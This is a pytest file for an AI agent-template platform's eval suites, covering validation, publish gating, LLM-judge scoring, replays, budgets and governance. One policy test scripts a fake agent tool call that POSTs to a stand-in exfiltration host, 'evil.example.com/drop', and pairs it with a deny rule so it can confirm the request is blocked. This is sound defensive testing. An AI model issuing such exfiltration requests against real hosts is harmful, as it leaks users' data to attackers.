"""Eval suites over real HTTP (issue 36): the suite's validation, runs on the real runtime with the
fake provider, the publish gate, the LLM judge, policy cases, replays, the budget, and the
scorecard shown with the published version. Cases run one at a time (SVC_EVAL_CONCURRENCY=1) so the
fake's scripted replies meet the cases in order."""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.support.accounts import bearer, own_origin
from tests.support.orgs import audit_actions, ok, org_key, send, world
from tests.support.runtime import managed_client, start_target
from tests.support.templates import (
    agent,
    create_template,
    definition,
    new_version_ok,
    patch_ok,
    user_with_key,
)

POLICY = {
    "accessPolicyVersion": "1",
    "defaultAction": "allow",
    "rules": [{"match": {"host": "evil.example.com"}, "action": "deny", "reason": "exfiltration"}],
}


def case(name: str, *checks: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return {
        "name": name,
        "task": "Greet {{company}}",
        "variables": {"company": "Acme"},
        "checks": list(checks),
        **fields,
    }


def team(suite: dict[str, Any], *agents: dict[str, Any], **fields: Any) -> dict[str, Any]:
    lead = agent("lead", prompt="You greet {{company}}.")
    return definition(*(agents or (lead,)), requiredVariables=["company"], evals=suite, **fields)


async def evals_client(make_client, aiohttp_server, **overrides):
    return await managed_client(make_client, aiohttp_server, eval_concurrency=1, **overrides)


async def run_suite(client, key, template_id, status=201):
    response = await client.post(f"/api/templates/{template_id}/evals/run", headers=bearer(key))
    assert response.status == status, await response.text()
    return await response.json()


# ---- bad input: 400 naming the field, nothing stored -----------------------------------------


@pytest.mark.parametrize(
    ("suite", "path"),
    [
        ({"cases": []}, "definition.evals.cases"),
        (
            {"cases": [case("a", {"kind": "regex", "pattern": "(unclosed"})]},
            "definition.evals.cases[0].checks[0]",
        ),
        ({"cases": [case("a", {"kind": "regex"})]}, "pattern: required"),
        (
            {"cases": [case("a", {"kind": "jsonSchema", "jsonSchema": {"type": "no-such-type"}})]},
            "jsonSchema: not a JSON Schema",
        ),
        (
            {"passRate": 1.5, "cases": [case("a", {"kind": "contains", "text": "x"})]},
            "definition.evals.passRate",
        ),
        ({"cases": [case("a", {"kind": "judge", "rubric": "r", "passScore": 11})]}, "passScore"),
        ({"cases": [case("a", {"kind": "teleport"})]}, "definition.evals.cases[0].checks[0].kind"),
        (
            {"cases": [case(f"c{i}", {"kind": "contains", "text": "x"}) for i in range(51)]},
            "definition.evals.cases",
        ),
        (
            {"cases": [case("a", {"kind": "contains", "text": "x"}, variables={"nope": "1"})]},
            "definition.evals.cases[0].variables.nope",
        ),
        (
            {"cases": [case("a", {"kind": "gateReached", "gate": "nowhere"})]},
            "definition.evals.cases[0].checks[0].gate",
        ),
    ],
)
async def test_a_bad_suite_is_a_400_naming_the_field(client, suite, path):
    _, key = await user_with_key(client)
    response = await client.post(
        "/api/templates",
        json={"slug": "bad-suite", "name": "Bad", "definition": team(suite)},
        headers=bearer(key),
    )
    assert response.status == 400
    body = await response.json()
    assert set(body) == {"error"} and path in body["error"], body


# ---- runs and the gate -------------------------------------------------------------------------


async def test_a_passing_required_suite_lets_the_publish_through_and_shows_its_scorecard(
    make_client, aiohttp_server, store
):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    suite = {
        "required": True,
        "cases": [case("greets", {"kind": "contains", "text": "hello acme"}, mustPass=True)],
    }
    draft = await create_template(client, key, definition=team(suite))
    llm.script(text="Hello Acme, welcome!", input_tokens=30, output_tokens=7)
    response = await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    assert response.status == 200, await response.text()
    published = await response.json()
    card = published["scorecard"]
    assert card["passed"] and card["cases"] == 1 and card["passedCases"] == 1 and card["medianTokens"] == 37
    # The case ran the draft's definition with its variables on the runtime.
    assert llm.requests[0].body["system"] == "You greet Acme."
    # Public: the anonymous list and page show the version's scorecard.
    listed = await (await client.get("/api/templates")).json()
    mine = next(t for t in listed["templates"] if t["id"] == draft["id"])
    assert mine["scorecard"]["scorecardId"] == card["scorecardId"] and mine["scorecard"]["version"] == 1
    versions = await (await client.get(f"/api/templates/{draft['id']}/versions")).json()
    assert versions["versions"][0]["scorecard"]["passRate"] == 1.0
    # An eval run is marked, and is not template usage: no run record, no counters.
    full = await (
        await client.get(
            f"/api/templates/{draft['id']}/evals/scorecards/{card['scorecardId']}", headers=bearer(key)
        )
    ).json()
    run_id = full["cases"][0]["runId"]
    ledger = await store["pipeline_runs"].find_one({"_id": run_id})
    assert ledger["source"] == "eval" and ledger["status"] == "completed"
    assert await store["runs"].find_one({"runId": run_id}) is None
    detail = await (
        await client.get(f"/api/templates/{draft['id']}/evals/runs/{run_id}", headers=bearer(key))
    ).json()
    assert detail["response"] == "Hello Acme, welcome!" and detail["events"][0]["type"] == "run_started"


async def test_a_failing_required_suite_refuses_the_publish_listing_the_failing_cases(
    make_client, aiohttp_server
):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    suite = {
        "required": True,
        "passRate": 1.0,
        "cases": [
            case("greets", {"kind": "contains", "text": "hello"}),
            case("polite", {"kind": "notContains", "text": "go away"}),
        ],
    }
    draft = await create_template(client, key, definition=team(suite))
    llm.script(text="Hello there")
    llm.script(text="Go away.")
    response = await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    assert response.status == 422
    body = await response.json()
    assert body["failing"] == ["polite"] and "failing: polite" in body["error"] and body["errors"] == []
    template = await (await client.get(f"/api/templates/{draft['id']}", headers=bearer(key))).json()
    assert template["status"] == "draft"
    card = await (
        await client.get(
            f"/api/templates/{draft['id']}/evals/scorecards/{body['scorecardId']}", headers=bearer(key)
        )
    ).json()
    polite = next(c for c in card["cases"] if c["name"] == "polite")
    assert polite["status"] == "fail" and "go away" in polite["reason"]


async def test_a_provider_outage_is_an_error_not_a_failure_and_the_gate_says_so(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    suite = {"required": True, "cases": [case("greets", {"kind": "contains", "text": "hello"})]}
    draft = await create_template(client, key, definition=team(suite))
    llm.fail_next(50, status=503)
    response = await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    assert response.status == 422
    body = await response.json()
    assert body["errors"] == ["greets"] and body["failing"] == []
    assert "errors (runtime, not failures" in body["error"]


async def test_the_version_gate_reuses_a_clean_scorecard_of_exactly_that_definition(
    make_client, aiohttp_server
):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    suite = {"required": True, "cases": [case("greets", {"kind": "contains", "text": "hello"})]}
    draft = await create_template(client, key, definition=team(suite))
    llm.script(text="hello")
    first = await run_suite(client, key, draft["id"])
    assert first["passed"] and first["trigger"] == "manual"
    calls = len(llm.requests)
    response = await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    assert response.status == 200
    assert (await response.json())["scorecard"]["scorecardId"] == first["id"]
    assert len(llm.requests) == calls  # reused: no model call
    # A version draft that changes the definition runs again, on its own definition.
    version = await new_version_ok(client, key, draft["id"])
    weaker = team({"required": True, "passRate": 0.5, "cases": suite["cases"]})
    await patch_ok(client, key, version["id"], definition=weaker)
    llm.script(text="hello again")
    response = await client.post(f"/api/templates/{version['id']}/publish", json={}, headers=bearer(key))
    assert response.status == 200, await response.text()
    assert len(llm.requests) == calls + 1
    diff = await (await client.get(f"/api/templates/{draft['id']}/versions/1/diff/2")).json()
    assert diff["evals"]["weakened"] == ["pass rate lowered from 1.0 to 0.5"]
    history = await (
        await client.get(f"/api/templates/{draft['id']}/evals/scorecards", headers=bearer(key))
    ).json()
    assert [c["version"] for c in history["scorecards"]] == [2, 1]


async def test_a_version_that_removes_its_suite_is_flagged_in_the_diff(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    draft = await create_template(
        client, key, definition=team({"cases": [case("greets", {"kind": "contains", "text": "hi"})]})
    )
    await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    version = await new_version_ok(client, key, draft["id"])
    bare = definition(agent("lead", prompt="You greet {{company}}."), requiredVariables=["company"])
    await patch_ok(client, key, version["id"], definition=bare)
    assert (
        await client.post(f"/api/templates/{version['id']}/publish", json={}, headers=bearer(key))
    ).status == 200
    diff = await (await client.get(f"/api/templates/{draft['id']}/versions/1/diff/2")).json()
    assert diff["evals"]["weakened"] == ["the eval suite was removed"] and diff["evals"]["after"] is None
    assert llm.requests == []  # the suite was not required: nothing ran


# ---- checks ---------------------------------------------------------------------------------------


async def test_an_llm_judge_scores_the_answer_against_its_rubric(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    judged = {
        "kind": "judge",
        "rubric": "Warm and names the company",
        "passScore": 7,
        "model": "providerA:small",
    }
    suite = {"passRate": 0.5, "cases": [case("warm", judged), case("cold", judged)]}
    draft = await create_template(client, key, definition=team(suite))
    llm.script(text="Hello Acme, so glad you're here!", input_tokens=20, output_tokens=10)
    llm.script(text='{"score": 9, "reasoning": "warm and specific"}', input_tokens=40, output_tokens=8)
    llm.script(text="Hi.")
    llm.script(text='{"score": 3, "reasoning": "curt"}')
    card = await run_suite(client, key, draft["id"])
    warm, cold = card["cases"]
    assert (
        warm["status"] == "pass"
        and "judge score 9" in warm["checks"][0]["reason"]
        and warm["judgeTokens"] == 48
    )
    assert cold["status"] == "fail" and "curt" in cold["reason"]
    assert card["passed"] and card["passRate"] == 0.5
    judge_call = llm.requests[1].body
    assert "Warm and names the company" in str(judge_call["messages"])
    assert judge_call["system"].startswith("You grade an AI agent team's answer")


async def test_behaviour_checks_bound_calls_tokens_and_agents(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    checks = [
        {"kind": "maxModelCalls", "max": 1},
        {"kind": "maxTokens", "max": 1000},
        {"kind": "agentsUsed", "agents": ["lead"]},
        {"kind": "regex", "pattern": "^Hel+o"},
        {"kind": "maxDurationMs", "max": 600_000},
        {"kind": "maxCostCents", "max": 0},
    ]
    draft = await create_template(client, key, definition=team({"cases": [case("bounded", *checks)]}))
    llm.script(text="Hello", input_tokens=100, output_tokens=20)
    card = await run_suite(client, key, draft["id"])
    only = card["cases"][0]
    assert only["status"] == "pass", only
    assert (only["tokens"], only["modelCalls"], only["costCents"]) == (120, 1, 0)


async def test_policy_cases_check_denied_requests_and_gates(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    lead = agent("lead", prompt="You greet {{company}}.", accessPolicy=POLICY)
    suite = {
        "cases": [
            case(
                "no-exfiltration",
                {"kind": "denied", "host": "evil.example.com", "method": "POST"},
                {"kind": "notRequested", "host": "evil.example.com"},
                {"kind": "gateReached", "gate": "review"},
            )
        ]
    }
    gates = [{"name": "review", "after": "lead", "kind": "approval"}]
    draft = await create_template(client, key, definition=team(suite, lead, gates=gates))
    steal = {"name": "http_request", "arguments": {"method": "POST", "url": "https://evil.example.com/drop"}}
    llm.script(tool_calls=[steal])
    llm.script(text="I could not send it.")
    card = await run_suite(client, key, draft["id"])
    only = card["cases"][0]
    assert only["status"] == "pass", only
    assert only["policyChecks"] == 3 and only["policyPassed"]
    assert card["totals"]["policyCases"] == 1 and card["totals"]["policyPassed"] == 1
    # Judged, the run paused at the gate is closed by its eval worker: nobody continues it.
    path = f"/api/templates/{draft['id']}/evals/runs/{only['runId']}"
    closed = await (await client.get(path, headers=bearer(key))).json()
    assert (closed["status"], closed["pausedAtGate"]) == ("failed", "review"), closed
    assert closed["errorMessage"].startswith("Eval case judged at gate 'review'")


# ---- replay, budget, reach ---------------------------------------------------------------------------


async def test_a_replayed_case_makes_no_model_call_and_says_when_the_recording_cannot_answer(
    make_client, aiohttp_server
):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    draft = await create_template(
        client, key, definition=team({"cases": [case("live", {"kind": "contains", "text": "hello"})]})
    )
    llm.script(text="hello from the recording")
    recorded = (await run_suite(client, key, draft["id"]))["cases"][0]["runId"]
    calls = len(llm.requests)
    replayed = case("replayed", {"kind": "contains", "text": "recording"}, replay={"runId": recorded})
    await patch_ok(client, key, draft["id"], definition=team({"cases": [replayed]}))
    card = await run_suite(client, key, draft["id"])
    assert card["cases"][0]["status"] == "pass" and card["cases"][0]["replayed"]
    assert card["cases"][0]["spentTokens"] == 0 and card["cases"][0]["modelCalls"] == 0
    assert len(llm.requests) == calls
    # A definition whose root agent the recording never ran: the case says the recording cannot answer.
    boss = agent("boss", prompt="You greet {{company}}.")
    await patch_ok(client, key, draft["id"], definition=team({"cases": [replayed]}, boss))
    card = await run_suite(client, key, draft["id"])
    only = card["cases"][0]
    assert only["status"] == "error" and "cannot answer model call boss/m0" in only["reason"]
    assert len(llm.requests) == calls
    # Someone else's run is not a recording this builder may replay.
    _, other_key = await user_with_key(client)
    theirs = await create_template(client, other_key, definition=team({"cases": [replayed]}))
    response = await client.post(f"/api/templates/{theirs['id']}/evals/run", headers=bearer(other_key))
    assert response.status == 400
    assert "definition.evals.cases[0].replay.runId" in (await response.json())["error"]


async def test_the_monthly_eval_budget_refuses_a_suite_before_any_model_call(
    make_client, aiohttp_server, store
):
    client, llm = await evals_client(make_client, aiohttp_server, eval_monthly_runs=2)
    _, key = await user_with_key(client)
    cases = [case(f"c{i}", {"kind": "contains", "text": "x"}) for i in range(3)]
    draft = await create_template(client, key, definition=team({"cases": cases}))
    response = await client.post(f"/api/templates/{draft['id']}/evals/run", headers=bearer(key))
    assert response.status == 409
    body = await response.json()
    assert "Monthly eval budget exceeded" in body["error"] and body["evalRunsLeft"] == 2
    assert llm.requests == [] and await store["eval_scorecards"].count_documents({}) == 0
    # Two cases fit; then nothing is left.
    await patch_ok(client, key, draft["id"], definition=team({"cases": cases[:2]}))
    llm.script(text="x").script(text="x")
    assert (await run_suite(client, key, draft["id"]))["passed"]
    response = await client.post(f"/api/templates/{draft['id']}/evals/run", headers=bearer(key))
    assert response.status == 409 and (await response.json())["evalRunsLeft"] == 0


async def test_another_tenant_cannot_run_or_read_a_suite(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    _, key = await user_with_key(client)
    draft = await create_template(
        client,
        key,
        definition=team({"cases": [case("a", {"kind": "contains", "text": "x"})]}),
        visibility="team",
    )
    _, other = await user_with_key(client)
    for method, path in (
        ("post", f"/api/templates/{draft['id']}/evals/run"),
        ("get", f"/api/templates/{draft['id']}/evals/scorecards"),
    ):
        response = await getattr(client, method)(path, headers=bearer(other))
        assert response.status == 404, path
    assert llm.requests == []


# ---- the dashboard ------------------------------------------------------------------------------


async def test_the_dashboard_runs_a_suite_and_shows_the_scorecard_and_each_case_run(
    make_client, aiohttp_server
):
    client, llm = await evals_client(make_client, aiohttp_server)
    caller, key = await user_with_key(client)
    suite = {
        "cases": [
            case("greets", {"kind": "contains", "text": "hello"}),
            case("polite", {"kind": "regex", "pattern": "^Zz"}),
        ]
    }
    draft = await create_template(client, key, definition=team(suite))
    html = await (await client.get(f"/templates/{draft['id']}", headers=caller.cookie)).text()
    assert "Run eval suite (2 cases)" in html
    token = re.search(r'<meta name="csrf-token" content="([0-9a-f]+)">', html).group(1)
    llm.script(text="hello there").script(text="hello again")
    response = await client.post(
        f"/templates/{draft['id']}/evals/run",
        data={"_csrf": token},
        headers={**caller.cookie, **own_origin(client)},
        allow_redirects=False,
    )
    assert response.status == 303
    card_page = await client.get(response.headers["Location"], headers=caller.cookie)
    text = await card_page.text()
    assert card_page.status == 200 and "pass rate <strong>50%</strong>" in text
    assert "answer does not match /^Zz/" in text
    run_link = re.search(r'href="(/templates/[0-9a-f]+/evals/runs/[0-9a-f]+)"', text).group(1)
    run_page = await (await client.get(run_link, headers=caller.cookie)).text()
    assert "hello there" in run_page and "step_finished" in run_page
    history = await (await client.get(f"/templates/{draft['id']}", headers=caller.cookie)).text()
    assert "manual" in history and "50%" in history
    # Another user sees neither the scorecard nor the run.
    other, _ = await user_with_key(client)
    assert (await client.get(response.headers["Location"], headers=other.cookie)).status == 404


async def test_a_replayed_request_is_judged_again_by_the_policy_under_test(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    target = await start_target(aiohttp_server)
    _, key = await user_with_key(client)
    host = "127.0.0.1"
    draft = await create_template(
        client, key, definition=team({"cases": [case("live", {"kind": "contains", "text": "sent"})]})
    )
    fetch = {"name": "http_request", "arguments": {"method": "POST", "url": f"{target.base}/drop"}}
    llm.script(tool_calls=[fetch]).script(text="sent it")
    recorded = (await run_suite(client, key, draft["id"]))["cases"][0]["runId"]
    assert len(target.received) == 1
    calls = len(llm.requests)
    # The same recording under the definition it allowed: the recorded answer, nothing sent again.
    allowed = case("allowed", {"kind": "contains", "text": "sent"}, replay={"runId": recorded})
    await patch_ok(client, key, draft["id"], definition=team({"cases": [allowed]}))
    card = await run_suite(client, key, draft["id"])
    assert card["cases"][0]["status"] == "pass", card["cases"][0]
    # Under a policy that now denies the host: the replayed request is blocked, and a policy case
    # that wants it denied passes; still no model call and no request sent.
    deny = {
        "accessPolicyVersion": "1",
        "defaultAction": "allow",
        "rules": [{"match": {"host": host}, "action": "deny", "reason": "no more"}],
    }
    lead = agent("lead", prompt="You greet {{company}}.", accessPolicy=deny)
    denied = case("denied", {"kind": "denied", "host": host, "method": "POST"}, replay={"runId": recorded})
    await patch_ok(client, key, draft["id"], definition=team({"cases": [denied]}, lead))
    card = await run_suite(client, key, draft["id"])
    assert card["cases"][0]["status"] == "pass", card["cases"][0]
    assert len(target.received) == 1 and len(llm.requests) == calls


async def test_an_org_under_governance_publishes_only_with_a_passing_suite(make_client, aiohttp_server):
    client, llm = await evals_client(make_client, aiohttp_server)
    w = await world(client, pro=True)
    key = await org_key(client, w.admin, w.slug)
    body = {"enabled": True, "requireEvalSuite": True}
    member_try = await send(client, w.member, "PATCH", f"{w.base}/settings/governance", body)
    assert member_try.status == 403
    org = (await ok(await send(client, w.owner, "PATCH", f"{w.base}/settings/governance", body)))["org"]
    assert org["requireEvalSuite"] is True
    assert (await audit_actions(client, w.org["id"]))[-1]["action"] == "governance.eval_suite_required"
    # No suite: refused, naming what to add; nothing published.
    bare = await create_template(client, key, definition=definition(agent("lead")))
    refused = await client.post(f"/api/templates/{bare['id']}/publish", json={}, headers=bearer(key))
    assert refused.status == 422 and "eval suite" in (await refused.json())["error"]
    # A suite the template itself does not mark required is required all the same, and must pass.
    suite = {"cases": [case("greets", {"kind": "contains", "text": "hello"})]}
    draft = await create_template(client, key, definition=team(suite))
    llm.script(text="goodbye")
    failing = await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    assert failing.status == 422 and "greets" in (await failing.json())["error"]
    # The failing scorecard of this definition stands until the suite is run again and passes.
    llm.script(text="hello Acme")
    assert (await run_suite(client, key, draft["id"]))["passed"]
    passing = await client.post(f"/api/templates/{draft['id']}/publish", json={}, headers=bearer(key))
    assert passing.status == 200, await passing.text()
